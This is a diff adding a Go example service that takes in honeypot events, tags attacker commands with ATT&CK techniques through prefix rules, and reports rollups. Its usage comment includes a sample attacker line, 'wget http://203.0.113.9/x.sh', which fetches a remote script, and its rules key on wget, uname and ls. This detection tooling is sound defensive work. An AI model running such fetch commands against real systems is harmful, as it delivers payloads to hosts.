@@ -1,0 +1,231 @@
+// Command service shows how a platform uses package ttp: it receives events over HTTP, stores each with its tags in one
+// transaction, answers rollups as JSON, and removes old tags in the background.
+//
+//	go run ./examples/service
+//	curl -d '{"id":"e1","ip":"192.0.2.7","session":"s1","line":"wget http://203.0.113.9/x.sh"}' localhost:8080/events
+//	curl 'localhost:8080/rollup?scope=fleet&since=7d'
+package main
+
+import (
+	"cmp"
+	"context"
+	"database/sql"
+	"encoding/json"
+	"errors"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/netip"
+	"os"
+	"os/signal"
+	"strings"
+	"syscall"
+	"time"
+
+	"github.com/google/uuid"
+
+	"github.com/decnet/ttpstore/ttp"
+)
+
+const (
+	keepTags  = 90 * ttp.Day
+	stopAfter = 10 * time.Second
+)
+
+func main() {
+	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
+	defer stop()
+	logger := slog.New(slog.NewJSONHandler(os.Stderr, nil))
+	listener, err := net.Listen("tcp", cmp.Or(os.Getenv("LISTEN"), "127.0.0.1:8080"))
+	if err == nil {
+		err = run(ctx, listener, cmp.Or(os.Getenv("TTPSTORE_DB"), "sqlite://service.db"), logger)
+	}
+	if err != nil {
+		logger.Error("service", "error", err)
+		os.Exit(1)
+	}
+}
+
+// run serves until ctx ends, and then finishes the requests that it has begun.
+func run(ctx context.Context, listener net.Listener, url string, logger *slog.Logger) (err error) {
+	store, err := ttp.Open(ctx, url, ttp.WithLogger(logger), ttp.WithSlowThreshold(500*time.Millisecond))
+	if err != nil {
+		return err
+	}
+	defer func() { err = errors.Join(err, store.Close()) }()
+	s := &service{store, logger}
+	if err := s.migrate(ctx); err != nil {
+		return err
+	}
+	background, stop := context.WithCancel(ctx)
+	expired := make(chan struct{})
+	go func() { defer close(expired); s.expire(background, time.Hour) }()
+	defer func() { stop(); <-expired }() // before the store closes
+
+	server := &http.Server{Handler: s.routes(), ReadHeaderTimeout: 5 * time.Second}
+	served := make(chan error, 1)
+	go func() { served <- server.Serve(listener) }()
+	select {
+	case err := <-served:
+		return err
+	case <-ctx.Done():
+	}
+	ctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), stopAfter)
+	defer cancel()
+	return server.Shutdown(ctx)
+}
+
+type service struct {
+	store  *ttp.Store
+	logger *slog.Logger
+}
+
+// migrate makes the tables of the store and the service's own.
+func (s *service) migrate(ctx context.Context) error {
+	if err := s.store.Migrate(ctx); err != nil {
+		return err
+	}
+	return s.store.Tx(ctx, func(ctx context.Context, tx *sql.Tx, _ *ttp.Store) error {
+		_, err := tx.ExecContext(ctx, "CREATE TABLE IF NOT EXISTS event (id VARCHAR(255) NOT NULL PRIMARY KEY, body TEXT NOT NULL)")
+		return err
+	})
+}
+
+func (s *service) routes() http.Handler {
+	mux := http.NewServeMux()
+	mux.HandleFunc("POST /events", s.answer(s.postEvent))
+	mux.HandleFunc("GET /rollup", s.answer(s.getRollup))
+	mux.HandleFunc("GET /ready", s.answer(func(r *http.Request) (any, error) { return "ready", s.store.Ready(r.Context()) }))
+	return mux
+}
+
+// event is what a honeypot reports.
+type event struct {
+	ID      string     `json:"id"`
+	IP      netip.Addr `json:"ip"`
+	Session string     `json:"session"`
+	Line    string     `json:"line"`
+}
+
+// attacker derives the attacker's UUID from the address, so that concurrent requests agree on it.
+func (e event) attacker() ttp.Attacker {
+	return ttp.Attacker{UUID: uuid.NewSHA1(uuid.NameSpaceURL, []byte("ip:"+e.IP.String())), IP: e.IP}
+}
+
+// tags applies the rules. A real service has more of them.
+func (e event) tags() []ttp.Tag {
+	var tags []ttp.Tag
+	for _, rule := range []struct{ word, id, tactic, technique string }{
+		{"wget ", "R1", "TA0011", "T1105"}, {"uname", "R2", "TA0007", "T1082"}, {"ls", "R3", "TA0007", "T1083"},
+	} {
+		if strings.HasPrefix(e.Line, rule.word) {
+			evidence, _ := json.Marshal(map[string]string{"line": e.Line}) // cannot fail
+			tags = append(tags, ttp.Tag{
+				SourceKind: "command", SourceID: e.ID, AttackerUUID: e.attacker().UUID, SessionID: e.Session,
+				Tactic: rule.tactic, TechniqueID: rule.technique, Confidence: 0.8, RuleID: rule.id, RuleVersion: 1,
+				Evidence: evidence, AttackRelease: "enterprise-v18.1", ObservedAt: time.Now(),
+			})
+		}
+	}
+	return tags
+}
+
+// postEvent stores an event and its tags, both or neither. A repeated event changes nothing.
+func (s *service) postEvent(r *http.Request) (any, error) {
+	body := http.MaxBytesReader(nil, r.Body, 64<<10)
+	var e event
+	if err := json.NewDecoder(body).Decode(&e); err != nil || e.ID == "" || !e.IP.IsValid() {
+		return nil, errBadEvent
+	}
+	var result ttp.InsertResult
+	err := s.store.Tx(r.Context(), func(ctx context.Context, tx *sql.Tx, store *ttp.Store) error {
+		if err := storeEvent(ctx, tx, e); err != nil {
+			return err
+		}
+		if err := store.UpsertAttackers(ctx, []ttp.Attacker{e.attacker()}); err != nil {
+			return err
+		}
+		var err error
+		result, err = store.InsertTags(ctx, e.tags())
+		return err
+	})
+	if err == nil && result.Inserted > 0 { // of several requests with one event, only one gets here
+		s.logger.Info("tagged", "techniques", result.Techniques)
+	}
+	return result, err
+}
+
+func storeEvent(ctx context.Context, tx *sql.Tx, e event) error {
+	var known int
+	if err := tx.QueryRowContext(ctx, "SELECT COUNT(*) FROM event WHERE id = ?", e.ID).Scan(&known); err != nil || known > 0 {
+		return err
+	}
+	body, err := json.Marshal(e)
+	if err == nil {
+		_, err = tx.ExecContext(ctx, "INSERT INTO event (id, body) VALUES (?, ?)", e.ID, string(body))
+	}
+	return err
+}
+
+// getRollup takes a scope, such as "fleet" or "session s1", and the parameters of a filter.
+func (s *service) getRollup(r *http.Request) (any, error) {
+	values := r.URL.Query()
+	scope, err := ttp.ParseScope(values.Get("scope"))
+	if err != nil {
+		return nil, err
+	}
+	values.Del("scope")
+	filter, err := ttp.ParseFilter(values)
+	if err != nil {
+		return nil, err
+	}
+	return s.store.Rollup(r.Context(), scope, ttp.Where(filter))
+}
+
+var errBadEvent = errors.New(`want an event such as {"id":"e1","ip":"192.0.2.7","session":"s1","line":"uname -a"}`)
+
+// answer writes the result or the error as JSON.
+func (s *service) answer(handle func(*http.Request) (any, error)) http.HandlerFunc {
+	return func(w http.ResponseWriter, r *http.Request) {
+		result, err := handle(r)
+		status := http.StatusOK
+		if err != nil {
+			status, result = s.failure(err)
+		}
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(status)
+		if err := json.NewEncoder(w).Encode(result); err != nil {
+			s.logger.Warn("answer", "error", err)
+		}
+	}
+}
+
+// failure returns the status and body of an error. Callers see the details of invalid input only.
+func (s *service) failure(err error) (int, any) {
+	if invalid, ok := errors.AsType[*ttp.InvalidError](err); ok {
+		return http.StatusBadRequest, invalid
+	}
+	if errors.Is(err, errBadEvent) {
+		return http.StatusBadRequest, map[string]string{"error": err.Error()}
+	}
+	s.logger.Error("request", "error", err)
+	return http.StatusServiceUnavailable, map[string]string{"error": "try again"}
+}
+
+// expire removes old tags now and then. A removal that is interrupted goes on the next time.
+func (s *service) expire(ctx context.Context, every time.Duration) {
+	for ticker := time.NewTicker(every); ; {
+		receipt, err := s.store.ExpireTags(ctx, keepTags)
+		if err != nil && ctx.Err() == nil {
+			s.logger.Error("retention", "error", err)
+		} else if receipt.Tags > 0 {
+			s.logger.Info("retention", "removed", receipt.Tags)
+		}
+		select {
+		case <-ticker.C:
+		case <-ctx.Done():
+			ticker.Stop()
+			return
+		}
+	}
+}
